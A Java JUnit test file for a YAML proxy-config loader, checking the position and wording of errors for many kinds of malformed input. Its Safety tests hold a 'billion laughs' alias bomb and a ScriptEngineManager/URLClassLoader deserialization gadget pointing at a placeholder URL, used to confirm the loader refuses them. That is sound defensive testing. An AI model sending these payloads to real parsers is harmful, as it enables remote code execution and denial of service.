package io.fedmesh.proxy.config;

import static io.fedmesh.proxy.config.ProxyConfigLoaderTest.assertError;
import static io.fedmesh.proxy.config.ProxyConfigLoaderTest.fails;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Each kind of bad input, with the exact position and the message it gets. */
class ProxyConfigErrorsTest {
  /** Lines 1-4. */
  static final String HEADER =
      """
      apiVersion: fedmesh.io/v1alpha1
      kind: ProxyConfig
      cluster: us-east
      locality: {region: us-east, zone: us-east-1a}
      """;

  /** Lines 5-10. */
  static final String SERVICE =
      """
      services:
        - name: reviews
          ports: [{name: http, port: 9080, protocol: http}]
          identities: [spiffe://us-east.fedmesh.local/ns/default/sa/reviews]
          endpoints:
            - {id: r1, host: 127.0.0.1, port: 15006, zone: us-east-1a}
      """;

  /** Line 11 onwards: a policy for reviews, with {@code extra} as its next lines (indent 4). */
  static String withPolicy(String extra) {
    return "policies:\n  - service: reviews\n" + extra;
  }

  /**
   * The 1-based column of {@code token}'s first occurrence on 1-based {@code line} of {@code doc}.
   */
  static int col(String doc, int line, String token) {
    String text = doc.split("\n", -1)[line - 1];
    int i = text.indexOf(token);
    assertThat(i).as("'%s' on line %d: %s", token, line, text).isNotNegative();
    return i + 1;
  }

  static ConfigException failsWithService(String from, String to) {
    return fails(HEADER + SERVICE.replace(from, to));
  }

  @Nested
  class UnknownFields {
    @Test
    void suggestsTheCloseName() {
      String doc = HEADER + SERVICE.replace("port: 15006", "prot: 15006");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "prot"),
          "services[0].endpoints[0].prot",
          "unknown field (did you mean 'port'? expected in services[0].endpoints[0]: one of id,"
              + " host, port, region, zone, cluster, weight, healthy, sni, tcpPort)");
    }

    @Test
    void suggestsDespiteCaseOrDashes() {
      String doc = HEADER + SERVICE + withPolicy("    retries: {per-try-timeout: 1s}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "per-try"),
          "policies[0].retries.per-try-timeout",
          "did you mean 'perTryTimeout'?");
    }

    @Test
    void listsTheFieldsWhenNothingIsClose() {
      String doc = HEADER + "metadata: {name: x}\n";
      assertError(
          fails(doc),
          5,
          1,
          "metadata",
          "unknown field (expected at the top level: one of apiVersion, kind, version, cluster,"
              + " locality, services, policies, authorization)");
    }

    @Test
    void mergeKeysAreNotSupported() {
      String doc = HEADER + "<<: {cluster: x}\n";
      assertError(fails(doc), 5, 1, "<<", "merge keys (<<) are not supported");
    }
  }

  @Nested
  class WrongTypes {
    @Test
    void listExpected() {
      String doc =
          HEADER
              + SERVICE.replace("ports: [{name: http, port: 9080, protocol: http}]", "ports: http");
      assertError(
          fails(doc), 7, col(doc, 7, "http"), "services[0].ports", "'http' (expected: a list)");
    }

    @Test
    void mappingExpected() {
      String doc = HEADER.replace("{region: us-east, zone: us-east-1a}", "us-east");
      assertError(fails(doc), 4, 11, "locality", "'us-east' (expected: a mapping of fields)");
    }

    @Test
    void integerExpected() {
      String doc = HEADER + SERVICE.replace("port: 15006", "port: http");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "http"),
          "services[0].endpoints[0].port",
          "'http' (expected: an integer)");
    }

    @Test
    void quotedIntegerIsAString() {
      String doc = HEADER + SERVICE.replace("port: 15006", "port: \"15006\"");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "\"15006\""),
          "services[0].endpoints[0].port",
          "'15006' is a quoted string (expected: an integer; remove the quotes)");
    }

    @Test
    void hexIntegerRefused() {
      String doc = HEADER + SERVICE.replace("port: 15006", "port: 0x3A9E");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "0x3A9E"),
          "services[0].endpoints[0].port",
          "'0x3A9E' (expected: an integer, in decimal)");
    }

    @Test
    void integerOutOfRange() {
      String doc = HEADER + SERVICE.replace("port: 15006", "port: 15006, weight: 99999999999");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "99999999999"),
          "services[0].endpoints[0].weight",
          "99999999999 is out of range (expected: an integer)");
    }

    @Test
    void yesIsNotABoolean() {
      String doc =
          HEADER + SERVICE.replace("  - name: reviews\n", "  - name: reviews\n    exported: yes\n");
      assertError(
          fails(doc),
          7,
          col(doc, 7, "yes"),
          "services[0].exported",
          "'yes' (expected: true or false)");
    }

    @Test
    void emptyValue() {
      String doc = HEADER.replace("cluster: us-east", "cluster:");
      assertError(fails(doc), 3, 9, "cluster", "no value (expected: a string)");
    }

    @Test
    void listWhereAStringBelongs() {
      String doc = HEADER.replace("cluster: us-east", "cluster: [us-east]");
      assertError(fails(doc), 3, 10, "cluster", "a list (expected: a string)");
    }
  }

  @Nested
  class MissingFields {
    @Test
    void requiredFieldAtItsMapping() {
      String doc = HEADER + SERVICE.replace(", zone: us-east-1a}", "}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "{"),
          "services[0].endpoints[0].zone",
          "missing (a required field)");
    }

    @Test
    void identitiesAreRequired() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "    identities: [spiffe://us-east.fedmesh.local/ns/default/sa/reviews]\n", "");
      assertError(fails(doc), 6, 5, "services[0].identities", "missing (a required field)");
    }

    @Test
    void regionOfAnotherClustersEndpoint() {
      String doc =
          HEADER + SERVICE.replace("zone: us-east-1a}", "zone: us-west-1a, cluster: us-west}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "{"),
          "services[0].endpoints[0].region",
          "missing (required for an endpoint in another cluster than this proxy's, here us-west)");
    }
  }

  @Nested
  class Durations {
    @Test
    void numberWithoutUnit() {
      String doc = HEADER + SERVICE + withPolicy("    timeout: 3\n");
      assertError(
          fails(doc),
          13,
          14,
          "policies[0].timeout",
          "'3' has no unit (expected: a duration such as 500ms, 1.5s, 2m or 1h)");
    }

    @Test
    void notADuration() {
      String doc = HEADER + SERVICE + withPolicy("    retries: {perTryTimeout: 3 seconds}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "3 seconds"),
          "policies[0].retries.perTryTimeout",
          "'3 seconds' is not a duration (expected: a duration such as 500ms, 1.5s, 2m or 1h)");
    }

    @Test
    void zeroIsRefusedByTheModel() {
      String doc = HEADER + SERVICE + withPolicy("    healthCheck: {interval: 0s}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "0s"),
          "policies[0].healthCheck.interval",
          "healthCheck.interval: 0ms (expected: a positive duration)");
    }
  }

  @Nested
  class Enums {
    @Test
    void retryOn() {
      String doc = HEADER + SERVICE + withPolicy("    retries: {retryOn: [reset, 5XX]}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "5XX"),
          "policies[0].retries.retryOn[1]",
          "'5XX' (expected: one of 5xx, connect-failure, reset, retriable-status-codes;"
              + " did you mean '5xx'?)");
    }

    @Test
    void retriableStatusCodesConditionNeedsCodes() {
      String doc =
          HEADER + SERVICE + withPolicy("    retries: {retryOn: [retriable-status-codes]}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "["),
          "policies[0].retries.retryOn",
          "'retriable-status-codes' without retriableStatusCodes");
    }

    @Test
    void protocol() {
      String doc = HEADER + SERVICE.replace("protocol: http", "protocol: HTTP");
      assertError(
          fails(doc),
          7,
          col(doc, 7, "HTTP"),
          "services[0].ports[0].protocol",
          "'HTTP' (expected: one of grpc, http, tcp; did you mean 'http'?)");
    }

    @Test
    void action() {
      String doc = HEADER + "authorization: {rules: [{name: a, action: allow}]}\n";
      assertError(
          fails(doc),
          5,
          col(doc, 5, "allow"),
          "authorization.rules[0].action",
          "'allow' (expected: one of ALLOW, DENY; did you mean 'ALLOW'?)");
    }

    @Test
    void controlCharactersInAValueAreEscaped() {
      String doc = HEADER + SERVICE.replace("protocol: http", "protocol: \"ht\\e[2Jtp\"");
      ConfigException e = fails(doc);
      assertThat(e.getMessage()).contains("'ht\\u001b[2Jtp'").doesNotContain("\u001b");
    }
  }

  @Nested
  class Duplicates {
    @Test
    void keyInAMapping() {
      String doc = HEADER + SERVICE.replace("port: 15006", "port: 15006, port: 15007");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "port: 15007"),
          "services[0].endpoints[0].port",
          "duplicate key (first at line 10; a key may appear once in a mapping)");
    }

    @Test
    void blockKeyOnAnotherLine() {
      String doc = HEADER + "cluster: us-west\n";
      assertError(fails(doc), 5, 1, "cluster", "duplicate key (first at line 3");
    }

    @Test
    void service() {
      String doc = HEADER + SERVICE + SERVICE.substring("services:\n".length());
      assertError(
          fails(doc),
          11,
          col(doc, 11, "reviews"),
          "services[1].name",
          "service default/reviews is defined twice (first at line 6; expected: each service once)");
    }

    @Test
    void policy() {
      String doc = HEADER + SERVICE + withPolicy("  - service: reviews\n    namespace: default\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "reviews"),
          "policies[1].service",
          "a second policy for default/reviews (first at line 12; expected: one policy per service)");
    }

    @Test
    void endpointId() {
      String doc =
          HEADER + SERVICE + "      - {id: r1, host: 127.0.0.2, port: 15006, zone: us-east-1a}\n";
      assertError(
          fails(doc),
          11,
          col(doc, 11, "{"),
          "services[0].endpoints[1].id",
          "'r1' is used twice (first at line 10");
    }

    @Test
    void portNumber() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "[{name: http, port: 9080, protocol: http}]",
                  "[{name: http, port: 9080, protocol: http}, {name: grpc, port: 9080, protocol: grpc}]");
      assertError(
          fails(doc),
          7,
          col(doc, 7, "9080, protocol: grpc"),
          "services[0].ports[1].port",
          "9080 is listed twice (expected: unique port numbers)");
    }

    @Test
    void identity() {
      String id = "spiffe://us-east.fedmesh.local/ns/default/sa/reviews";
      String doc = HEADER + SERVICE.replace("[" + id + "]", "[" + id + ", " + id + "]");
      assertError(
          fails(doc),
          8,
          col(doc, 8, ", spiffe") + 2,
          "services[0].identities[1]",
          "is listed twice (first at line 8)");
    }

    @Test
    void failoverRegion() {
      String doc =
          HEADER
              + SERVICE
              + withPolicy(
                  "    locality: {failover: [{from: us-east, to: [us-west]},"
                      + " {from: us-east, to: [eu-west]}]}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "us-east, to: [eu-west]"),
          "policies[0].locality.failover[1].from",
          "region 'us-east' has a second failover entry");
    }

    @Test
    void ruleName() {
      String doc =
          HEADER + "authorization: {rules: [{name: a, action: DENY}, {name: a, action: ALLOW}]}\n";
      assertError(
          fails(doc),
          5,
          col(doc, 5, "a, action: ALLOW"),
          "authorization.rules[1].name",
          "'a' names two rules");
    }
  }

  @Nested
  class References {
    @Test
    void policyForAnUnknownService() {
      String doc = HEADER + SERVICE + "policies: [{service: ratings}]\n";
      assertError(
          fails(doc),
          11,
          col(doc, 11, "ratings"),
          "policies[0].service",
          "no service default/ratings in services (expected: one of default/reviews)");
    }

    @Test
    void policyInTheWrongNamespace() {
      String doc = HEADER + SERVICE + "policies: [{service: reviews, namespace: shop}]\n";
      assertError(
          fails(doc),
          11,
          col(doc, 11, "reviews"),
          "policies[0].service",
          "no service shop/reviews");
    }

    @Test
    void sniOnALocalEndpoint() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "zone: us-east-1a}",
                  "zone: us-east-1a, sni: reviews.default.9080.us-east.fedmesh}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "reviews.default"),
          "services[0].endpoints[0].sni",
          "on an endpoint in this proxy's cluster, us-east (expected: no sni");
    }

    @Test
    void sniNamingAnotherService() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "zone: us-east-1a}",
                  "zone: us-west-1a, region: us-west, cluster: us-west,"
                      + " sni: ratings.default.9080.us-west.fedmesh}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "ratings.default"),
          "services[0].endpoints[0].sni",
          "names service default/ratings (expected: this service, default/reviews)");
    }

    @Test
    void sniNamingAnotherPort() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "zone: us-east-1a}",
                  "zone: us-west-1a, region: us-west, cluster: us-west,"
                      + " sni: reviews.default.9081.us-west.fedmesh}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "reviews.default"),
          "services[0].endpoints[0].sni",
          "names port 9081 (expected: one of the service's ports: 9080)");
    }

    @Test
    void malformedSni() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "zone: us-east-1a}",
                  "zone: us-west-1a, region: us-west, cluster: us-west, sni: reviews.us-west}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "reviews.us-west"),
          "services[0].endpoints[0].sni",
          "(expected: <service>.<namespace>.<port>.<cluster>.fedmesh)");
    }

    @Test
    void tcpPortOnAnEndpointBehindAGateway() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "zone: us-east-1a}",
                  "zone: us-west-1a, region: us-west, cluster: us-west,"
                      + " sni: reviews.default.9080.us-west.fedmesh, tcpPort: 15008}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "15008}"),
          "services[0].endpoints[0].tcpPort",
          "15008 on an endpoint with an sni (expected: no tcpPort");
    }

    @Test
    void tcpPortOutOfRange() {
      String doc = HEADER + SERVICE.replace("port: 15006,", "port: 15006, tcpPort: 70000,");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "70000"),
          "services[0].endpoints[0].tcpPort",
          "endpoint r1: tcpPort 70000 (expected: 1..65535, or 0 for none)");
    }

    @Test
    void localEndpointInAnotherRegion() {
      String doc =
          HEADER + SERVICE.replace("zone: us-east-1a}", "zone: us-east-1a, region: eu-west}");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "eu-west"),
          "services[0].endpoints[0].region",
          "'eu-west', but cluster us-east is in region us-east");
    }
  }

  @Nested
  class ModelRules {
    @Test
    void atTheFieldTheModelNames() {
      String doc = HEADER + SERVICE.replace("port: 15006", "port: 15006, weight: 0");
      assertError(
          fails(doc),
          10,
          col(doc, 10, "0, zone"),
          "services[0].endpoints[0].weight",
          "endpoint r1: weight 0 (expected: 1..10000)");
    }

    @Test
    void retryAttempts() {
      String doc = HEADER + SERVICE + withPolicy("    retries:\n      attempts: 11\n");
      assertError(
          fails(doc),
          14,
          17,
          "policies[0].retries.attempts",
          "retries.attempts: 11 (expected: 0..10)");
    }

    @Test
    void crossFieldRuleWithReadableDurations() {
      String doc = HEADER + SERVICE + withPolicy("    timeout: 500ms\n");
      assertError(
          fails(doc),
          13,
          14,
          "policies[0].timeout",
          "retries.perTryTimeout 1s exceeds timeout 500ms (expected: perTryTimeout <= timeout)");
    }

    @Test
    void label() {
      String doc = HEADER.replace("cluster: us-east", "cluster: US-East");
      assertError(fails(doc), 3, 10, "cluster", "'US-East' (expected: a DNS label");
    }

    @Test
    void serviceName() {
      String doc = HEADER + SERVICE.replace("name: reviews", "name: Reviews");
      assertError(
          fails(doc), 6, 11, "services[0].name", "service.name: 'Reviews' (expected: a DNS label");
    }

    @Test
    void spiffeIdentity() {
      String doc =
          HEADER
              + SERVICE.replace(
                  "spiffe://us-east.fedmesh.local/ns/default/sa/reviews",
                  "spiffe://us-east.fedmesh.local");
      assertError(
          fails(doc),
          8,
          col(doc, 8, "spiffe"),
          "services[0].identities[0]",
          "a workload ID needs a path");
    }

    @Test
    void failoverToItself() {
      String doc =
          HEADER
              + SERVICE
              + withPolicy("    locality: {failover: [{from: us-east, to: [us-east]}]}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "[us-east]"),
          "policies[0].locality.failover[0].to",
          "region 'us-east' fails over to itself");
    }

    @Test
    void overprovisioningFactor() {
      String doc = HEADER + SERVICE + withPolicy("    locality: {overprovisioningFactor: 0.5}\n");
      assertError(
          fails(doc),
          13,
          col(doc, 13, "0.5"),
          "policies[0].locality.overprovisioningFactor",
          "0.5 (expected: 1.0..10.0)");
    }

    @Test
    void principal() {
      String doc =
          HEADER + "authorization: {rules: [{name: a, action: DENY, principals: [legacy]}]}\n";
      assertError(
          fails(doc),
          5,
          col(doc, 5, "legacy"),
          "authorization.rules[0].principals[0]",
          "(expected: a SPIFFE ID, or a prefix of one ending in /*)");
    }

    @Test
    void method() {
      String doc = HEADER + "authorization: {rules: [{name: a, action: DENY, methods: [get]}]}\n";
      assertError(
          fails(doc),
          5,
          col(doc, 5, "get"),
          "authorization.rules[0].methods[0]",
          "'get' (expected: an HTTP method in capitals, such as GET)");
    }

    @Test
    void pathPrefix() {
      String doc =
          HEADER + "authorization: {rules: [{name: a, action: DENY, pathPrefixes: [api]}]}\n";
      assertError(
          fails(doc),
          5,
          col(doc, 5, "api"),
          "authorization.rules[0].pathPrefixes[0]",
          "'api' (expected: a path prefix starting with /)");
    }

    @Test
    void negativeVersion() {
      String doc = HEADER + "version: -1\n";
      assertError(fails(doc), 5, 10, "version", "version: -1 (expected: >= 0)");
    }
  }

  @Nested
  class Document {
    @Test
    void emptyFile() {
      assertError(fails(""), 1, 1, "", "empty file (expected: a ProxyConfig document");
    }

    @Test
    void onlyComments() {
      assertError(fails("# nothing yet\n"), 1, 1, "", "empty file");
    }

    @Test
    void topLevelList() {
      assertError(fails("- a\n- b\n"), 1, 1, "", "a list (expected: a mapping of fields)");
    }

    @Test
    void wrongApiVersion() {
      String doc = HEADER.replace("fedmesh.io/v1alpha1", "v1");
      assertError(fails(doc), 1, 13, "apiVersion", "'v1' (expected: fedmesh.io/v1alpha1)");
    }

    @Test
    void wrongKindBeforeUnknownFields() {
      String doc = "apiVersion: fedmesh.io/v1alpha1\nkind: Deployment\nmetadata: {name: x}\n";
      assertError(fails(doc), 2, 7, "kind", "'Deployment' (expected: ProxyConfig)");
    }

    @Test
    void missingApiVersion() {
      assertError(
          fails("kind: ProxyConfig\n"),
          1,
          1,
          "apiVersion",
          "missing (expected: fedmesh.io/v1alpha1)");
    }

    @Test
    void twoDocuments() {
      ConfigException e = fails(HEADER + "---\n" + HEADER);
      assertError(
          e,
          5,
          1,
          "",
          "YAML syntax: expected a single document in the stream (at line 1), but found another"
              + " document");
    }
  }

  @Nested
  class Syntax {
    @Test
    void unclosedFlowMapping() {
      String doc = HEADER.replace("us-east-1a}", "us-east-1a") + "services: []\n";
      ConfigException e = fails(doc);
      assertThat(e.line()).isEqualTo(5);
      assertThat(e.column()).isEqualTo(9);
      assertThat(e.getMessage()).startsWith("t.yaml:5:9: YAML syntax: ");
    }

    @Test
    void tabIndentation() {
      String doc = HEADER + "services:\n\t- name: reviews\n";
      ConfigException e = fails(doc);
      assertError(e, 6, 1, "", "YAML indents with spaces, never tabs");
    }

    @Test
    void undefinedAlias() {
      String doc = HEADER + SERVICE + withPolicy("    retries: *standard\n");
      assertError(fails(doc), 13, 14, "", "YAML syntax: found undefined alias standard");
    }

    @Test
    void nonPrintableCharacter() {
      String doc = HEADER.replace("kind: ProxyConfig", "kind: Proxy\u0007Config");
      assertError(fails(doc), 2, 12, "", "character U+0007 is not allowed in YAML");
    }
  }

  @Nested
  class Safety {
    @Test
    @Timeout(5)
    void billionLaughsFailsFast() {
      String doc =
          """
          apiVersion: fedmesh.io/v1alpha1
          kind: ProxyConfig
          a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
          b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
          c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
          d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
          e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
          f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
          g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
          h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
          i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
          """;
      ConfigException e = fails(doc);
      // The 51st alias of a list: the 6th of line 9 (b, c, d, e, f: 45; then g's first five).
      assertError(
          e,
          9,
          col(doc, 9, "*f") + 15,
          "",
          "more than 50 aliases of lists or mappings (expected: at most 50; a document that"
              + " expands exponentially, a 'billion laughs', is refused)");
    }

    @Test
    void javaClassTagIsRefused() {
      String doc =
          HEADER
              + "services: !!javax.script.ScriptEngineManager"
              + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n";
      assertError(
          fails(doc),
          5,
          11,
          "",
          "tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed (expected: plain"
              + " YAML; only the core tags such as !!str)");
    }

    @Test
    void localTagIsRefused() {
      String doc = HEADER.replace("cluster: us-east", "cluster: !env CLUSTER");
      assertError(fails(doc), 3, 10, "", "tag '!env' is not allowed");
    }

    @Test
    void globalTagDirectiveIsRefused() {
      String doc =
          "%TAG !x! tag:example.com,2024:\n---\n" + HEADER.replace("us-east\n", "!x!c us-east\n");
      assertError(fails(doc), 5, 10, "", "tag 'tag:example.com,2024:c' is not allowed");
    }

    @Test
    void coreTagIsAllowed() {
      String doc = HEADER.replace("cluster: us-east", "cluster: !!str us-east");
      assertThat(ProxyConfigLoader.parse(doc, "t.yaml").cluster()).isEqualTo("us-east");
    }

    @Test
    void deepNestingIsRefused() {
      String doc = HEADER + "services: " + "[".repeat(40) + "]".repeat(40) + "\n";
      assertError(
          fails(doc),
          5,
          11 + 31,
          "",
          "lists and mappings nested more than 32 deep (expected: at most 32)");
    }

    @Test
    void veryDeepNestingDoesNotOverflowTheStack() {
      String doc = HEADER + "services: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n";
      assertThat(fails(doc).getMessage()).contains("nested more than 32 deep");
    }

    @Test
    void oversizedDocument() {
      String doc = HEADER + "#" + "x".repeat(ProxyConfigLoader.MAX_DOCUMENT_BYTES) + "\n";
      ConfigException e = fails(doc);
      assertThat(e.getMessage())
          .isEqualTo(
              "t.yaml: larger than 4194304 bytes (expected: a configuration of at most 4 MiB)");
      assertThat(e.line()).isZero();
    }

    @Test
    void oversizedFile(@TempDir Path dir) throws IOException {
      Path f = dir.resolve("big.yaml");
      Files.writeString(f, HEADER + "#" + "x".repeat(ProxyConfigLoader.MAX_DOCUMENT_BYTES) + "\n");
      assertThatThrownBy(() -> ProxyConfigLoader.load(f))
          .isInstanceOf(ConfigException.class)
          .hasMessage(
              f + ": larger than 4194304 bytes (expected: a configuration of at most 4 MiB)");
    }

    @Test
    void invalidUtf8(@TempDir Path dir) throws IOException {
      Path f = dir.resolve("latin1.yaml");
      Files.write(
          f, (HEADER + "# caf\u00e9\n").getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
      assertThatThrownBy(() -> ProxyConfigLoader.load(f))
          .isInstanceOf(ConfigException.class)
          .hasMessage(f + ":5:6: byte 0xE9 is not UTF-8 (expected: a UTF-8 text file)");
    }

    @Test
    void missingFile(@TempDir Path dir) {
      Path f = dir.resolve("absent.yaml");
      assertThatThrownBy(() -> ProxyConfigLoader.load(f))
          .isInstanceOf(ConfigException.class)
          .hasMessageStartingWith(f + ": cannot read: NoSuchFileException");
    }
  }
}
